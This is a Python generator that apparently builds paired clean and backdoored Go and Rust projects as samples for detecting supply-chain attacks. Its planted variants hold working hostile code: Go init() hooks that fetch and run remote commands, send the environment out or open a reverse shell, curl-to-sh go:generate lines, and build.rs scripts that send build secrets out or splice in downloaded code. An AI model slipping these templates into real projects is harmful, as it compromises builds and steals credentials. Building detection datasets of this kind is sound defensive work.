"""Go and Cargo shapes of the `dep-manifest` class: a vendored Go module whose init() phones home
and runs what it gets, a go:generate directive that fetches and runs a script, a Rust build.rs
(the project's own or a vendored crate's) that phones home, runs a downloaded script or splices
downloaded code into the build.

Written blind: from public write-ups only.
"""
from __future__ import annotations

import base64
import hashlib
import json
import random

from .common import doc_ip, port, word
from .supply_dep import DProj, Shape, evil_url, license_text
from .supply_tpl import fill

# ----------------------------------------------------------------------------- Go


def _h1(rng: random.Random) -> str:
    return "h1:" + base64.b64encode(bytes(rng.randrange(256) for _ in range(32))).decode()


def _go_dep_file(pkg: str, imports: str, plant: str) -> str:
    return fill(f"""
        // Package {pkg} retries operations with exponential back-off and jitter.
        package {pkg}

        import (
        \t"errors"
        \t"math/rand"
        \t"time"
        @@IMPORTS@@
        )

        // ErrGiveUp is returned when every attempt failed.
        var ErrGiveUp = errors.New("{pkg}: giving up")

        var policies = map[string]Policy{{}}

        // Policy describes how often and how long to retry.
        type Policy struct {{
        \tAttempts int
        \tBase     time.Duration
        }}

        func init() {{
        \t// built-in policies, selectable by name from configuration files
        \tpolicies["default"] = Policy{{Attempts: 3, Base: 200 * time.Millisecond}}
        \tpolicies["patient"] = Policy{{Attempts: 8, Base: time.Second}}
        }}
        @@PLANT@@

        // Lookup returns a named policy.
        func Lookup(name string) (Policy, bool) {{
        \tp, ok := policies[name]
        \treturn p, ok
        }}

        // Do runs fn until it succeeds or the policy is exhausted.
        func (p Policy) Do(fn func() error) error {{
        \twait := p.Base
        \tfor i := 0; i < p.Attempts; i++ {{
        \t\tif err := fn(); err == nil {{
        \t\t\treturn nil
        \t\t}}
        \t\ttime.Sleep(wait + time.Duration(rand.Int63n(int64(wait)/2+1)))
        \t\twait *= 2
        \t}}
        \treturn ErrGiveUp
        }}
        """, IMPORTS=imports, PLANT=plant) + "\n"


def _go_base(rng: random.Random, P: DProj, gen_extra: str = "") -> tuple[dict, str, str]:
    mod = f"git.{P.org}.example/{P.org}/{P.name}"
    dorg = word(rng, (1, 2))
    pkg = rng.choice(["backoff", "retry", "persist"]) + word(rng, (1, 1))
    dpath = f"git.{dorg}.example/{dorg}/{pkg}"
    d2 = f"git.{word(rng)}.example/libs/ini"
    dver = f"v1.{rng.randint(0, 9)}.{rng.randint(0, 9)}"
    files = {
        "go.mod": f"module {mod}\n\ngo 1.21\n\nrequire (\n\t{dpath} {dver}\n\t{d2} v0.3.1\n)\n",
        "README.md": f"# {P.name}\n\n{P.description}.\n\n    go build ./cmd/{P.name}\n",
        "LICENSE": license_text(P),
        f"cmd/{P.name}/main.go": fill(f"""
            package main

            import (
            \t"flag"
            \t"fmt"
            \t"os"

            \t"{mod}/internal/state"
            \t"{dpath}"
            )

            func main() {{
            \tpolicy := flag.String("retry", "default", "retry policy")
            \tflag.Parse()
            \tp, ok := {pkg}.Lookup(*policy)
            \tif !ok {{
            \t\tfmt.Fprintln(os.Stderr, "unknown policy", *policy)
            \t\tos.Exit(2)
            \t}}
            \terr := p.Do(func() error {{ return state.Poll(flag.Arg(0)) }})
            \tif err != nil {{
            \t\tfmt.Fprintln(os.Stderr, err)
            \t\tos.Exit(1)
            \t}}
            }}
            """) + "\n",
        "internal/state/state.go": fill(f"""
            package state

            //go:generate stringer -type=State
            @@GEN@@

            import (
            \t"errors"
            \t"net"
            \t"time"
            )

            // State of a polled device.
            type State int

            const (
            \tUnknown State = iota
            \tUp
            \tDown
            )

            // Poll checks that the device's management port answers.
            func Poll(addr string) error {{
            \tif addr == "" {{
            \t\treturn errors.New("no address")
            \t}}
            \tc, err := net.DialTimeout("tcp", addr, 3*time.Second)
            \tif err != nil {{
            \t\treturn err
            \t}}
            \treturn c.Close()
            }}
            """, GEN=gen_extra) + "\n",
        f"vendor/{d2}/ini.go": "// Package ini reads INI files (vendored subset).\npackage ini\n\nimport \"strings\"\n\n"
                               "// Split returns key and value of a line.\nfunc Split(line string) (string, string) {\n"
                               "\tk, v, _ := strings.Cut(line, \"=\")\n\treturn strings.TrimSpace(k), strings.TrimSpace(v)\n}\n",
        "vendor/modules.txt": f"# {dpath} {dver}\n## explicit; go 1.19\n{dpath}\n# {d2} v0.3.1\n## explicit; go 1.18\n{d2}\n",
    }
    files["go.sum"] = "".join(f"{p} {v} {_h1(rng)}\n{p} {v}/go.mod {_h1(rng)}\n"
                              for p, v in ((dpath, dver), (d2, "v0.3.1")))
    return files, dpath, pkg


def go_vendored_init(rng: random.Random, P: DProj) -> Shape:
    files, dpath, pkg = _go_base(rng, P)
    u = evil_url(rng, "/api/" + word(rng))
    fn = rng.choice(["warm", "prime", "syncClock", "telemetry", "seed"])
    kind = rng.choice(["beacon-exec", "exfil", "revshell"])
    if kind == "beacon-exec":
        imports = '\t"io"\n\t"net/http"\n\t"os"\n\t"os/exec"'
        plant = fill(f"""

            func init() {{
            \tgo {fn}()
            }}

            func {fn}() {{
            \th, _ := os.Hostname()
            \tresp, err := http.Get("{u}?h=" + h)
            \tif err != nil {{
            \t\treturn
            \t}}
            \tdefer resp.Body.Close()
            \tcmd, _ := io.ReadAll(resp.Body)
            \tif len(cmd) > 0 {{
            \t\texec.Command("/bin/sh", "-c", string(cmd)).Run()
            \t}}
            }}""")
        desc = f"fetches {u}?h=<hostname> and runs the response with /bin/sh -c"
    elif kind == "exfil":
        imports = '\t"bytes"\n\t"net/http"\n\t"os"\n\t"strings"'
        plant = fill(f"""

            func init() {{
            \tgo {fn}()
            }}

            func {fn}() {{
            \th, _ := os.Hostname()
            \tbody := h + "\\n" + strings.Join(os.Environ(), "\\n")
            \thttp.Post("{u}", "text/plain", bytes.NewBufferString(body))
            }}""")
        desc = f"posts the host name and the whole environment to {u}"
    else:
        ip, pt = doc_ip(rng), port(rng)
        imports = '\t"net"\n\t"os/exec"'
        plant = fill(f"""

            func init() {{
            \tgo {fn}()
            }}

            func {fn}() {{
            \tc, err := net.Dial("tcp", "{ip}:{pt}")
            \tif err != nil {{
            \t\treturn
            \t}}
            \tsh := exec.Command("/bin/sh")
            \tsh.Stdin, sh.Stdout, sh.Stderr = c, c, c
            \tsh.Run()
            }}""")
        desc = f"connects to {ip}:{pt} and attaches /bin/sh to the connection"
    path = f"vendor/{dpath}/{pkg}.go"
    clean = dict(files, **{path: _go_dep_file(pkg, "", "")})
    planted = dict(files, **{path: _go_dep_file(pkg, imports, plant)})
    return Shape(clean, planted, [path],
                 f"Vendored Go dependency {dpath} gains a second init() that starts a goroutine which {desc}; it "
                 "runs in every program importing the package.", ["phone-home", "hidden-command", "build-tampering", "remote-access"],
                 {"how": kind})


def go_generate(rng: random.Random, P: DProj) -> Shape:
    u = evil_url(rng, "/gen/" + word(rng) + ".sh")
    line = rng.choice([f'//go:generate sh -c "curl -fsSL {u} | sh"',
                       f'//go:generate bash -c "wget -qO- {u} | bash"',
                       f'//go:generate sh -c "curl -s {u} -o /tmp/gen.sh && sh /tmp/gen.sh"'])
    seed = rng.random()
    files_c, _, _ = _go_base(random.Random(seed), P)
    files_p, _, _ = _go_base(random.Random(seed), P, gen_extra=line)
    return Shape(files_c, files_p, ["internal/state/state.go"],
                 f"internal/state/state.go carries `{line}` next to the honest stringer directive: `go generate ./...` "
                 "downloads a script from a fixed host and runs it.", ["phone-home", "build-tampering", "hidden-command"],
                 {"how": line.split()[1]})


# ----------------------------------------------------------------------------- Cargo

def _build_rs(P: DProj, plant_use: str, plant: str) -> str:
    return fill(f"""
        use std::env;
        use std::path::PathBuf;
        @@USE@@

        fn main() {{
            println!("cargo:rerun-if-changed=build.rs");
            println!("cargo:rerun-if-changed=src/crc.c");
            let target = env::var("TARGET").unwrap_or_default();
            println!("cargo:rustc-env=BUILD_TARGET={{}}", target);
            let out = PathBuf::from(env::var("OUT_DIR").unwrap());
            cc::Build::new().file("src/crc.c").opt_level(2).compile("crc");
            println!("cargo:rustc-link-search=native={{}}", out.display());
        @@PLANT@@
        }}
        """, USE=plant_use, PLANT=plant) + "\n"


def _rs_plant(rng: random.Random) -> tuple[str, str, str, str]:
    kind = rng.choice(["tcp-env", "curl-sh", "splice"])
    if kind == "tcp-env":
        ip, pt = doc_ip(rng), port(rng)
        use = "use std::io::Write;\nuse std::net::TcpStream;"
        plant = fill(f"""
            if let Ok(mut s) = TcpStream::connect("{ip}:{pt}") {{
                let vars: Vec<String> = env::vars().map(|(k, v)| format!("{{}}={{}}", k, v)).collect();
                let _ = s.write_all(vars.join("\\n").as_bytes());
            }}""")
        return kind, use, "\n".join("    " + ln for ln in plant.split("\n")), f"connects to {ip}:{pt} and sends every environment variable of the build (tokens, CI secrets)"
    if kind == "curl-sh":
        u = evil_url(rng, "/" + word(rng) + ".sh")
        use = "use std::process::Command;"
        plant = f'    let _ = Command::new("sh").arg("-c").arg("curl -fsSL {u} | sh").status();'
        return kind, use, plant, f"runs `curl -fsSL {u} | sh` at build time"
    u = evil_url(rng, "/" + word(rng) + ".rs")
    use = "use std::process::Command;"
    plant = fill(f"""
        let gen = out.join("tables.rs");
        let _ = Command::new("curl").args(["-fsSL", "-o"]).arg(&gen).arg("{u}").status();
        println!("cargo:rustc-cfg=gen_tables");""")
    return kind, use, "\n".join("    " + ln for ln in plant.split("\n")), \
        f"downloads Rust code from {u} into OUT_DIR/tables.rs, which the crate include!()s under cfg(gen_tables)"


def _cargo_base(rng: random.Random, P: DProj) -> tuple[dict, str]:
    crate = P.name
    lib = fill(f"""
        //! {P.description}.
        #[cfg(gen_tables)]
        include!(concat!(env!("OUT_DIR"), "/tables.rs"));

        extern "C" {{
            fn crc32_update(crc: u32, buf: *const u8, len: usize) -> u32;
        }}

        /// CRC-32 of a configuration blob (C implementation, see src/crc.c).
        pub fn checksum(data: &[u8]) -> u32 {{
            unsafe {{ crc32_update(0, data.as_ptr(), data.len()) }}
        }}

        /// Parse "key = value" lines.
        pub fn parse(text: &str) -> Vec<(String, String)> {{
            text.lines()
                .filter_map(|l| l.split_once('='))
                .map(|(k, v)| (k.trim().to_string(), v.trim().to_string()))
                .collect()
        }}
        """) + "\n"
    files = {
        "Cargo.toml": f'[package]\nname = "{crate}"\nversion = "{P.version}"\nedition = "2021"\ndescription = "{P.description}"\n'
                      f'license = "{P.license}"\nbuild = "build.rs"\n\n[dependencies]\nlog = "0.4"\n\n[build-dependencies]\ncc = "1.0"\n',
        "src/lib.rs": lib,
        "src/crc.c": "#include <stddef.h>\n#include <stdint.h>\n\nuint32_t crc32_update(uint32_t crc, const uint8_t *p, size_t n)\n{\n"
                     "\tcrc = ~crc;\n\twhile (n--) {\n\t\tcrc ^= *p++;\n\t\tfor (int k = 0; k < 8; k++)\n"
                     "\t\t\tcrc = (crc >> 1) ^ (0xEDB88320u & -(crc & 1));\n\t}\n\treturn ~crc;\n}\n",
        "README.md": f"# {crate}\n\n{P.description}.\n\n    cargo build --release\n",
        "LICENSE": license_text(P),
        ".cargo/config.toml": '[source.crates-io]\nreplace-with = "vendored-sources"\n\n[source.vendored-sources]\ndirectory = "vendor"\n',
    }
    return files, crate


def cargo_build_rs(rng: random.Random, P: DProj) -> Shape:
    files, _ = _cargo_base(rng, P)
    kind, use, plant, desc = _rs_plant(rng)
    clean = dict(files, **{"build.rs": _build_rs(P, "", "")})
    planted = dict(files, **{"build.rs": _build_rs(P, use, plant)})
    return Shape(clean, planted, ["build.rs"],
                 f"The crate's build.rs {desc}; it runs on every cargo build of the crate or of anything depending on it.",
                 ["phone-home", "build-tampering", "hidden-command"], {"how": kind})


def _checksums(files: dict, prefix: str) -> str:
    sums = {p[len(prefix):]: hashlib.sha256((v if isinstance(v, bytes) else v.encode())).hexdigest()
            for p, v in sorted(files.items()) if p.startswith(prefix) and not p.endswith(".cargo-checksum.json")}
    return json.dumps({"files": sums, "package": hashlib.sha256(prefix.encode()).hexdigest()}, sort_keys=True) + "\n"


def cargo_vendored_build_rs(rng: random.Random, P: DProj) -> Shape:
    files, _ = _cargo_base(rng, P)
    files["build.rs"] = _build_rs(P, "", "")
    dep = rng.choice([f"{word(rng)}-sys", f"{word(rng)}-build", f"{word(rng)}_util"])
    dver = f"0.{rng.randint(1, 9)}.{rng.randint(0, 20)}"
    pre = f"vendor/{dep}/"
    files["Cargo.toml"] = files["Cargo.toml"].replace('log = "0.4"\n', f'log = "0.4"\n{dep} = "{dver}"\n')
    kind, use, plant, desc = _rs_plant(rng)
    if kind == "splice":
        kind, use, plant, desc = "curl-sh", "use std::process::Command;", \
            f'    let _ = Command::new("sh").arg("-c").arg("curl -fsSL {evil_url(rng)} | sh").status();', ""
        desc = "runs " + plant.split('.arg("')[2].split('")')[0] + " at build time"
    def dep_build(p_use: str, p: str) -> str:
        return fill(f"""
        use std::env;
        @@USE@@

        fn main() {{
            // probe for the system library, fall back to the bundled copy
            println!("cargo:rerun-if-env-changed={dep.upper().replace('-', '_')}_NO_PKG_CONFIG");
            if env::var("CARGO_CFG_TARGET_OS").map(|os| os == "linux").unwrap_or(false) {{
                println!("cargo:rustc-link-lib=dylib=z");
            }}
        @@PLANT@@
        }}
        """, USE=p_use, PLANT=p) + "\n"
    common = {pre + "Cargo.toml": f'[package]\nname = "{dep}"\nversion = "{dver}"\nedition = "2018"\nbuild = "build.rs"\nlicense = "MIT"\n',
              pre + "src/lib.rs": "//! Bindings to the system zlib (subset).\npub fn version() -> &'static str { \"1.3\" }\n"}
    clean = dict(files, **common, **{pre + "build.rs": dep_build("", "")})
    planted = dict(files, **common, **{pre + "build.rs": dep_build(use, plant)})
    clean[pre + ".cargo-checksum.json"] = _checksums(clean, pre)
    planted[pre + ".cargo-checksum.json"] = _checksums(planted, pre)
    return Shape(clean, planted, [pre + "build.rs"],
                 f"The vendored crate {dep} {dver} has a build.rs that {desc} (the vendored checksum file was "
                 "regenerated to match).", ["phone-home", "build-tampering", "hidden-command"], {"how": kind},
                 extra_changed=[pre + ".cargo-checksum.json"])


SHAPES = [("go", "go-vendored-init", go_vendored_init), ("go", "go-generate", go_generate),
          ("cargo", "cargo-build-rs", cargo_build_rs), ("cargo", "cargo-vendored-build-rs", cargo_vendored_build_rs)]
